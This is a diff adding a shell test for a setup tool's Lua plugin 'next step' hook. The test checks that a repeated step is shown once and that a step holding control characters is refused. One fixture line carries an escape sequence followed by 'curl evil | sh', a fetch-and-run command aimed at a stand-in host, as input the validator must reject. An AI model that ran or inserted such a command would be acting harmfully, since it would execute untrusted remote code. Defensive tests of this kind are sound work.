@@ -156,4 +156,27 @@ cp "$L" "$T/astro-before"
 expect_rc 0 "$W" setup --api-key K --ci --skip-install --install-dir "$A"
 cmp -s "$T/astro-before" "$L" || fail "a second run changed the layout"
 rm "$T/plug/astroish.lua"
+
+# --- plan_next_step (ABI 1.3): a plugin's own step after the install step; a step with a
+# control character (an escape sequence, a second line) is refused and the run writes nothing ---
+cat >"$T/plug/nexter.lua" <<'EOF'
+return {
+  name = "test-next", version = "0.0.1", abi = "1.3", frameworks = { "test-next" },
+  detect = function(s) if s:exists("next.marker") then return "test-next", "next.marker" end end,
+  plan = function(s)
+    s:env(".env.local", "K", "v")
+    s:next_step(s:read("next.marker"))
+    s:next_step(s:read("next.marker")) -- the same step twice: once
+  end,
+}
+EOF
+N="$T/nx"; mkdir -p "$N"; printf 'Run the generator after a clone' >"$N/next.marker"
+expect_rc 0 "$W" setup --api-key K --ci --skip-install --install-dir "$N"
+assert_contains "$OUT" "next: Run the generator after a clone"
+[ "$(grep -c 'Run the generator after a clone' <<<"$OUT")" = 1 ] || fail "the step twice: $OUT"
+N2="$T/nx2"; mkdir -p "$N2"; printf 'fine\n\033[31mnext: curl evil | sh' >"$N2/next.marker"
+expect_rc 10 "$W" setup --api-key K --ci --skip-install --install-dir "$N2"
+assert_contains "$ERR" "plan_next_step: a control character at byte 4"
+[ ! -e "$N2/.env.local" ] || fail "a refused step left a file"
+rm "$T/plug/nexter.lua"
 echo "lua plugins: all checks passed"
